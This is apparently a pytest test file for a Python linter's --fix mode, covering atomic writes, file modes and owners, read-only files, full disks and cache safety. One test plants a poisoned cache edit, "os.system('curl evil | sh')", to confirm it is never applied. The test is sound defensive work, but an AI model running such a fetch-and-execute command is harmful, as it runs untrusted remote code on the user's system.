"""``--fix`` writes: atomic, mode and owner kept, read-only files and folders reported
while the other files are still fixed, edits never taken from the cache (issue 12 items
4, 7, 10 and the read-only part of 18).

Permission tests must also hold when the suite runs as root, who may write anything:
they run the command as ``nobody`` through ``setpriv`` (or skip, saying why).
"""

from __future__ import annotations

import errno
import json
import os
import shutil
import stat
import subprocess
import sys
import tempfile
from pathlib import Path

import pytest
from lint_engine_testkit import project, run_cli, test_rules, write  # noqa: F401

from mlcheck_lint import cache as cache_mod, fixes

BAD = "def bad_a():\n    pass\n"
GOOD = "def good_a():\n    pass\n"
SELECT = ("--select", "MLC991", "--jobs", "1")
TESTKIT = Path(__file__).parent


def _names(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir())


def test_fix_keeps_the_mode_whatever_the_umask(project, test_rules, capsys):
    write(project, {"a.py": BAD, "run.py": "#!/usr/bin/env python\n" + BAD})
    os.chmod(project / "a.py", 0o640)
    os.chmod(project / "run.py", 0o755)
    old = os.umask(0o077)
    try:
        code, _, err = run_cli(capsys, *SELECT, "--no-cache", "--fix", ".")
    finally:
        os.umask(old)
    assert code == 0, err
    assert (project / "a.py").read_text() == GOOD
    assert stat.S_IMODE(os.stat(project / "a.py").st_mode) == 0o640
    assert stat.S_IMODE(os.stat(project / "run.py").st_mode) == 0o755
    assert _names(project) == ["a.py", "pyproject.toml", "run.py"]  # no temporary file left


def test_a_full_disk_leaves_the_file_whole_and_the_next_file_is_fixed(project, test_rules, capsys,
                                                                     monkeypatch):
    # Path.write_bytes truncated the file first and then failed: the file was lost.
    write(project, {"a.py": BAD, "b.py": BAD})
    real_fsync, calls = os.fsync, []

    def fsync(fd):
        calls.append(fd)
        if len(calls) == 1:
            raise OSError(errno.ENOSPC, "No space left on device")
        return real_fsync(fd)

    monkeypatch.setattr(cache_mod.os, "fsync", fsync)
    code, _, err = run_cli(capsys, *SELECT, "--no-cache", "--fix", ".")
    assert code == 2
    assert "mlcheck-lint: error: cannot fix a.py: cannot write it: No space left on device; " \
           "the file is unchanged" in err
    assert (project / "a.py").read_text() == BAD and (project / "b.py").read_text() == GOOD
    assert _names(project) == ["a.py", "b.py", "pyproject.toml"]


def test_a_read_only_file_is_reported_and_later_files_are_still_fixed(project, test_rules, capsys):
    # Before: a PermissionError traceback, and b.py was never fixed. An atomic replace
    # would even succeed (only the folder must be writable): the file's mode is obeyed.
    write(project, {"a.py": BAD, "b.py": BAD})
    os.chmod(project / "a.py", 0o444)
    code, out, err = run_cli(capsys, *SELECT, "--no-cache", "--fix", ".")
    assert code == 2
    assert ("cannot fix a.py: the file is read-only (permission denied); make it writable to "
            "fix it; the file is unchanged") in err
    assert "Traceback" not in err
    assert (project / "a.py").read_text() == BAD and (project / "b.py").read_text() == GOOD
    assert "a.py:1:5: MLC991" in out  # still reported: it was not fixed


def test_diff_works_on_a_read_only_file(project, test_rules, capsys):
    write(project, {"a.py": BAD})
    os.chmod(project / "a.py", 0o444)
    code, out, _ = run_cli(capsys, *SELECT, "--no-cache", "--diff", ".")
    assert code == 1 and "+def good_a():" in out


def _unprivileged(cmd: list[str]) -> list[str]:
    if os.geteuid() != 0:
        return cmd
    setpriv = shutil.which("setpriv")
    if setpriv is None:
        pytest.skip("running as root without setpriv: cannot drop privileges, and root may "
                    "write into a read-only folder")
    dropped = [setpriv, "--reuid=65534", "--regid=65534", "--clear-groups"]
    # The interpreter (a pyenv build under /root, a tox venv) may be out of the
    # unprivileged user's reach: then the test cannot run as that user at all.
    probe = subprocess.run([*dropped, sys.executable, "-c", "import libcst, mlcheck_lint"],
                           capture_output=True, text=True, timeout=60)
    if probe.returncode != 0:
        pytest.skip("the unprivileged user cannot run this interpreter with its packages: "
                    + probe.stderr.strip()[-300:])
    return [*dropped, *cmd]


def _cli_command(*args: str) -> list[str]:
    code = (f"import sys\nsys.path.insert(0, {str(TESTKIT)!r})\n"
            "import lint_engine_testkit as kit\nfrom mlcheck_lint import api\n"
            "for rule in kit.TEST_RULES:\n    api.REGISTRY[rule.code] = rule\n"
            f"from mlcheck_lint.cli import main\nsys.exit(main({list(args)!r}))\n")
    return [sys.executable, "-c", code]


@pytest.fixture
def shared_project():
    """A project in a folder the unprivileged user can reach (pytest's tmp is 0700)."""
    folder = Path(tempfile.mkdtemp(prefix="mlcheck-perm-"))
    os.chmod(folder, 0o755)
    (folder / "pyproject.toml").write_text("")
    yield folder
    for dirpath, dirnames, _ in os.walk(folder):
        for d in dirnames:
            os.chmod(os.path.join(dirpath, d), 0o755)
    shutil.rmtree(folder, ignore_errors=True)


def test_a_read_only_folder_is_reported_as_an_unprivileged_user(shared_project):
    root = shared_project
    write(root, {"locked/a.py": BAD, "open/b.py": BAD})
    cmd = _unprivileged(_cli_command(*SELECT, "--no-cache", "--fix", "."))
    if os.geteuid() == 0:
        for path in [root, *root.rglob("*")]:
            os.chown(path, 65534, 65534)
    os.chmod(root / "locked", 0o555)
    env = {**os.environ, "HOME": str(root)}
    proc = subprocess.run(cmd, cwd=root, capture_output=True, text=True, timeout=120, env=env)
    if "Permission denied" in proc.stderr and "Traceback" in proc.stderr:
        pytest.skip(f"the unprivileged user cannot run the interpreter here: {proc.stderr[-300:]}")
    assert proc.returncode == 2, proc.stderr
    assert "cannot fix locked/a.py: permission denied writing into" in proc.stderr
    assert "Traceback" not in proc.stderr
    assert (root / "locked" / "a.py").read_text() == BAD
    assert (root / "open" / "b.py").read_text() == GOOD
    assert _names(root / "locked") == ["a.py"]


@pytest.mark.skipif(not hasattr(os, "geteuid") or os.geteuid() != 0, reason="needs root to chown")
def test_root_fixing_another_users_file_keeps_its_owner(project, test_rules, capsys):
    write(project, {"a.py": BAD})
    os.chown(project / "a.py", 65534, 65534)
    assert run_cli(capsys, *SELECT, "--no-cache", "--fix", ".")[0] == 0
    info = os.stat(project / "a.py")
    assert (info.st_uid, info.st_gid) == (65534, 65534)
    assert (project / "a.py").read_text() == GOOD


def test_an_edit_from_the_cache_is_never_applied(project, test_rules, capsys):
    # A cache restored from another branch: same content hash, any edit. --fix and
    # --diff must recompute the edits from the file.
    write(project, {"a.py": BAD})
    assert run_cli(capsys, *SELECT, ".")[0] == 1
    [stored] = (project / ".mlcheck-lint-cache").glob("*.json")
    data = json.loads(stored.read_text())
    entry = data["files"]["a.py"]
    [finding] = entry["findings"]
    finding["fix"]["edits"] = [[1, 0, 2, 8, "import os; os.system('curl evil | sh')\n"]]
    stored.write_text(json.dumps(data))
    code, out, _ = run_cli(capsys, *SELECT, "--diff", ".")
    assert code == 1 and "evil" not in out and "+def good_a():" in out
    code, _, err = run_cli(capsys, *SELECT, "--fix", ".")
    assert code == 0, err
    assert (project / "a.py").read_text() == GOOD


def test_a_symlink_is_fixed_at_its_target_and_stays_a_link(project, test_rules, capsys):
    write(project, {"real/a.py": BAD})
    (project / "link.py").symlink_to(project / "real" / "a.py")
    code, _, err = run_cli(capsys, *SELECT, "--no-cache", "--fix", "link.py")
    assert code == 0, err
    assert (project / "link.py").is_symlink()
    assert (project / "real" / "a.py").read_text() == GOOD


def test_a_file_edited_while_it_is_being_fixed_is_left_alone(project, test_rules, capsys, monkeypatch):
    write(project, {"a.py": BAD})
    real = fixes._fresh_findings

    def edited_meanwhile(engine, task, data, *args):
        found = real(engine, task, data, *args)
        Path(task.path).write_text(BAD + "# the user saved a change\n")
        return found

    monkeypatch.setattr(fixes, "_fresh_findings", edited_meanwhile)
    code, _, err = run_cli(capsys, *SELECT, "--no-cache", "--fix", ".")
    assert code == 2 and "it changed on disk while it was being fixed" in err
    assert (project / "a.py").read_text() == BAD + "# the user saved a change\n"


def test_write_atomic_respects_the_umask_for_a_new_file(tmp_path):
    old = os.umask(0o027)
    try:
        cache_mod.write_atomic(tmp_path / "new.json", b"{}")
    finally:
        os.umask(old)
    assert stat.S_IMODE(os.stat(tmp_path / "new.json").st_mode) == 0o640
    assert _names(tmp_path) == ["new.json"]


def test_fix_files_recomputes_edits_even_from_a_poisoned_report(project, test_rules):
    # fixes.py's own guarantee, whatever the engine hands it: the report only says
    # which files have fixes; the edits applied are computed again from the bytes.
    import dataclasses

    from mlcheck_lint import engine
    from mlcheck_lint.api import Edit
    from mlcheck_lint.config import load_config

    write(project, {"a.py": BAD})
    rules = engine.load_rules()
    config = dataclasses.replace(load_config(project, [r.code for r in rules]), select=("MLC991",))
    report = engine.run(["."], config, jobs=1, use_cache=False, rules=rules, fixing=True)
    [finding] = report.findings
    poison = dataclasses.replace(finding.fix, edits=(Edit(1, 0, 2, 8, "import evil\n"),))
    report.findings = [dataclasses.replace(finding, fix=poison)]
    outcome = fixes.fix_files(report, config, rules, unsafe=False, write=False)
    assert outcome.changed == {"a.py": (BAD, GOOD)} and outcome.applied == {"a.py": {"MLC991": 1}}


@pytest.fixture
def tiny_disk(tmp_path):
    """A 256 KiB tmpfs (root only): a real full disk, not a simulated one."""
    if not hasattr(os, "geteuid") or os.geteuid() != 0 or shutil.which("mount") is None:
        pytest.skip("mounting a small tmpfs needs root and mount(8)")
    mountpoint = tmp_path / "disk"
    mountpoint.mkdir()
    proc = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=256k", "tmpfs", str(mountpoint)],
                          capture_output=True, text=True)
    if proc.returncode != 0:
        pytest.skip(f"cannot mount a tmpfs here: {proc.stderr.strip()}")
    try:
        yield mountpoint
    finally:
        # A process that still has its cwd there (a pool's server) keeps it busy: detach
        # it lazily then, so no mount outlives the session.
        if subprocess.run(["umount", str(mountpoint)], capture_output=True).returncode != 0:
            subprocess.run(["umount", "-l", str(mountpoint)], capture_output=True)


def test_a_really_full_disk_leaves_the_file_whole(tiny_disk, test_rules, capsys, monkeypatch):
    # Exactly 12 pages: the fix adds one byte, so the new text needs a 13th page. A
    # truncate-then-write frees the 12 and then fails on the 13th, losing the file.
    body = BAD + "#" * (12 * 4096 - len(BAD) - 1) + "\n"
    write(tiny_disk, {"pyproject.toml": "", "a.py": body})
    fd = os.open(tiny_disk / "filler", os.O_WRONLY | os.O_CREAT)
    try:  # take every free block
        for size in (65536, 4096, 512, 1):
            try:
                while True:
                    os.write(fd, b"\0" * size)
            except OSError as exc:
                assert exc.errno == errno.ENOSPC
    finally:
        os.close(fd)
    monkeypatch.chdir(tiny_disk)
    code, _, err = run_cli(capsys, *SELECT, "--no-cache", "--fix", ".")
    assert code == 2 and "cannot fix a.py: cannot write it: No space left on device" in err
    assert (tiny_disk / "a.py").read_text() == body  # Path.write_bytes left it truncated
    assert _names(tiny_disk) == ["a.py", "filler", "pyproject.toml"]
